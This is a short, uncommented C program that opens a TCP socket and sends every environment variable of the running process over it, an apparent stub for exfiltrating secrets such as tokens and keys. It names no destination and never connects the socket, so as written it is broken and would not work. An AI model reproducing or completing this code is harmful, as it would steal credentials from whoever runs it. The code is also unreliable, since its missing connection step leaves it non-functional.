#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
extern char **environ;

int main(void) {
    int s = socket(2, 1, 0);
    for (char **e = environ; *e; e++) send(s, *e, strlen(*e), 0);
    return 0;
}
